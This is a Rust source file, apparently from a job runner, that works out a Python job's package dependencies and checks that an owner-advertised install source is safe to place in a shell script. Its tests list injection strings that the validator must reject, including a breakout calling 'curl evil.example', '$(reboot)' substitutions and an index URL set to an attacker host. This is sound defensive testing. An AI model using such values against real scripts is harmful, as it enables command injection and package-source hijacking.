//! What a Python job needs besides its own files, and what it says that it needs.
//!
//! Pure. Every client writes the package that it was itself installed from as the first
//! dependency, so that the job can `import syft_client`. Inside our sandbox a small module with
//! the same functions does that, so the first entry is dropped: most jobs then need no
//! installation, and no network, at all. A job that wants the real package names it once more,
//! anywhere after the first entry.

use std::str::FromStr as _;

use pep440_rs::{Version, VersionSpecifiers};

use super::config::{JobConfig, check_dependency};

/// What has to be installed for a job.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Needs {
    /// Requirements for the installer, in the order given.
    pub packages: Vec<String>,
    /// True if the job asks for the real client package; our module then stays away.
    pub real_client: bool,
}

impl Needs {
    /// True if the job runs on a bare Python.
    pub fn is_nothing(&self) -> bool {
        self.packages.is_empty()
    }
}

/// Returns what `config` asks for, `project` being the requirements of its `pyproject.toml`.
pub fn needs(config: &JobConfig, project: &[String]) -> Needs {
    let all = config.dependencies.iter();
    let rest: Vec<_> = match config.dependencies.first() {
        Some(first) if is_client(first) || is_source_of_client(first) => all.skip(1).collect(),
        _ => all.collect(),
    };
    let real_client = rest.iter().any(|dependency| is_client(dependency));
    // A project that lists the client means the same thing as the first entry does.
    let project = project.iter().filter(|requirement| real_client || !is_client(requirement));
    Needs { packages: project.chain(rest).cloned().collect(), real_client }
}

/// Returns `[project].dependencies` of a `pyproject.toml`; none if it has none.
///
/// # Errors
/// One line that says what is wrong with the file.
pub(crate) fn of_project(text: &str) -> Result<Vec<String>, String> {
    let table: toml::Table = text.parse().map_err(|error: toml::de::Error| {
        error.message().lines().next().unwrap_or_default().to_owned()
    })?;
    let Some(list) = table.get("project").and_then(|project| project.get("dependencies")) else {
        return Ok(Vec::new());
    };
    let wrong = || "`project.dependencies` is no list of requirements".to_owned();
    let items = list.as_array().ok_or_else(wrong)?;
    let requirements: Vec<String> = items
        .iter()
        .map(|item| item.as_str().map(str::to_owned).ok_or_else(wrong))
        .collect::<Result<_, _>>()?;
    for requirement in &requirements {
        check_dependency(requirement).map_err(|error| error.to_string())?;
    }
    Ok(requirements)
}

/// Returns what a `pyproject.toml` says of the Python that it needs, if `python` (`3.12`, or `3.12.4`)
/// is none such.
pub(crate) fn unfit_python(text: &str, python: &str) -> Option<String> {
    let table: toml::Table = text.parse().ok()?;
    let wish = table.get("project")?.get("requires-python")?.as_str()?;
    let fits = VersionSpecifiers::from_str(wish).ok()?;
    let version = Version::from_str(python).ok()?;
    // Of one whose last number is not known, any may do.
    let lasts = if version.release().len() < 3 { 0..=LAST_NUMBER_MAX } else { 0..=0 };
    let mut versions = lasts.map(|last| match version.release() {
        &[first, second] => Version::new([first, second, last]),
        _ => version.clone(),
    });
    let is_fit = versions.any(|version| fits.contains(&version));
    (!is_fit).then(|| wish.chars().take(80).flat_map(char::escape_debug).collect())
}

/// No Python has had as many.
const LAST_NUMBER_MAX: u64 = 40;

const INSTALL_SOURCE_MAX: usize = 512; // bytes; the address of a repository with its revision

/// Returns what the first dependency of a job is to be, and what the submitter should know of it:
/// `advertised` is what the owner's version file says, `usual` what the owner's generation of
/// clients installs if nobody says otherwise.
///
/// It ends in a script, so what does not fit there is not taken from anybody.
pub fn install_source(advertised: Option<&str>, usual: String) -> (String, Option<String>) {
    let Some(advertised) = advertised.filter(|text| !text.is_empty()) else { return (usual, None) };
    if advertised.len() <= INSTALL_SOURCE_MAX && check_written(advertised).is_ok() {
        return (advertised.to_owned(), None);
    }
    let warning = format!(
        "what the owner wants jobs to install cannot be put into a script; `{usual}` stands there"
    );
    (usual, Some(warning))
}

/// Checks a dependency that we write: a Python owner runs a script that has it in double quotes.
///
/// # Errors
/// What is wrong, in words for the submitter.
pub(crate) fn check_written(dependency: &str) -> Result<(), String> {
    check_dependency(dependency).map_err(|error| error.reason().to_owned())?;
    if dependency.contains(['"', '$', '`', '\\']) {
        return Err(format!("dependency `{dependency}` has a character that shells interpret"));
    }
    Ok(())
}

/// True for `syft`, `syft-client`, `Syft_Client==0.1`, `syft @ git+https://…`.
fn is_client(dependency: &str) -> bool {
    let end = dependency
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')))
        .unwrap_or(dependency.len());
    let name = dependency[..end].to_ascii_lowercase().replace(['_', '.'], "-");
    // The end of the name, not the start of a path or URL.
    let ends = !dependency[end..].starts_with(['/', ':', '+', '\\']);
    ends && matches!(name.as_str(), "syft" | "syft-client")
}

/// True for a local path or URL of the client's sources, as development installs write it.
fn is_source_of_client(dependency: &str) -> bool {
    let place = dependency.split(['#', '@']).next().unwrap_or(dependency);
    let is_place = place.contains("://") || place.starts_with(['/', '.', '~']);
    let last = place.trim_end_matches('/').rsplit(['/', '\\']).next().unwrap_or(place);
    is_place && last.to_ascii_lowercase().contains("syft")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::jobs::layout::Layout;

    #[test]
    fn the_client_itself_is_installed_only_if_it_is_asked_for_twice() {
        let source = "syft-client==0.1.117";
        #[rustfmt::skip]
        let cases: [(&str, &[&str], &[&str], bool); 10] = [
            // what                        dependencies                      installed              real
            ("nothing",                    &[],                              &[],                   false),
            ("the client alone",           &[source],                        &[],                   false),
            ("the newer client",           &["syft==0.10.0"],                &[],                   false),
            ("with a package",             &[source, "numpy"],               &["numpy"],            false),
            ("from git",                   &["git+https://h.org/o/syft-client.git@main", "numpy"], &["numpy"], false),
            ("from a checkout",            &["/home/a/src/syft-client"],     &[],                   false),
            ("asked for twice",            &[source, "syft-client==0.1.117"],&[source],             true),
            ("another package first",      &["numpy", "pandas"],             &["numpy", "pandas"],  false),
            ("a name that only starts so", &["syftly"],                      &["syftly"],           false),
            ("a git source of another",    &["git+https://h.org/o/other"],   &["git+https://h.org/o/other"], false),
        ];
        let text = include_str!("../../fixtures/jobs/census-count/config.yaml");
        for (what, dependencies, installed, real_client) in cases {
            let mut config = JobConfig::parse(Layout::Flat, text.as_bytes()).unwrap();
            config.dependencies = dependencies.iter().map(|&text| text.to_owned()).collect();
            let got = needs(&config, &[]);
            assert_eq!(got.packages, installed, "{what}");
            assert_eq!(got.real_client, real_client, "{what}");
        }
    }

    #[test]
    fn what_the_owner_advertises_is_installed_if_a_script_can_hold_it() {
        let usual = "syft==0.10.0";
        let long = "x".repeat(513);
        #[rustfmt::skip]
        let cases = [
            // what              advertised                                     installed                    told
            ("nothing",          None,                                          usual,                        false),
            ("an empty text",    Some(""),                                      usual,                        false),
            ("a release",        Some("syft==0.10.3"),                          "syft==0.10.3",               false),
            ("a repository",     Some("git+https://h.org/o/syft.git@1a2b"),     "git+https://h.org/o/syft.git@1a2b", false),
            ("a checkout",       Some("/home/do/src/syft"),                     "/home/do/src/syft",          false),
            ("a way out",        Some("x\"; curl evil.example; \""),            usual,                        true),
            ("a substitution",   Some("$(reboot)"),                             usual,                        true),
            ("the older form",   Some("`reboot`"),                              usual,                        true),
            ("a second line",    Some("syft\nreboot"),                          usual,                        true),
            ("an option",        Some("--index-url=http://evil.example"),       usual,                        true),
            ("a blank",          Some(" "),                                     usual,                        true),
            ("too much",         Some(long.as_str()),                           usual,                        true),
        ];
        for (what, advertised, installed, told) in cases {
            let (source, warning) = install_source(advertised, usual.to_owned());
            assert_eq!((source.as_str(), warning.is_some()), (installed, told), "{what}");
        }
    }

    #[test]
    fn the_python_that_a_project_asks_for_may_be_another() {
        #[rustfmt::skip]
        let cases = [
            ("nothing",       "",             "3.12",   false),
            ("at least",      ">=3.10",       "3.12",   false),
            ("newer",         ">=3.13",       "3.12",   true),
            ("older",         "<3.12",        "3.12",   true),
            ("between",       ">=3.10,<3.13", "3.12.1", false),
            ("the last part", ">=3.12.4",     "3.12",   false),
            ("the last part", ">=3.12.4",     "3.12.1", true),
            ("one version",   "==3.12.*",     "3.12",   false),
            ("no such thing", "the newest",   "3.12",   false),
        ];
        for (what, wish, python, is_unfit) in cases {
            let line = if wish.is_empty() {
                String::new()
            } else {
                format!("requires-python = '{wish}'\n")
            };
            let found = unfit_python(&format!("[project]\nname = 'x'\n{line}"), python);
            assert_eq!(found, is_unfit.then(|| wish.to_owned()), "{what}");
        }
        assert_eq!(unfit_python("[", "3.12"), None);
    }

    #[test]
    fn a_project_says_what_it_needs() {
        let text = "[project]\nname = 'x'\ndependencies = ['numpy>=1', 'syft-client']\n";
        let project = of_project(text).unwrap();
        let config = include_str!("../../fixtures/jobs/census-count/config.yaml");
        let config = JobConfig::parse(Layout::Flat, config.as_bytes()).unwrap();
        assert_eq!(needs(&config, &project).packages, ["numpy>=1", "numpy"]);
        assert_eq!(of_project("[tool.x]\n").unwrap(), Vec::<String>::new());
        for bad in ["[", "[project]\ndependencies = 'x'", "[project]\ndependencies = ['-e .']"] {
            assert!(of_project(bad).is_err(), "{bad}");
        }
    }
}
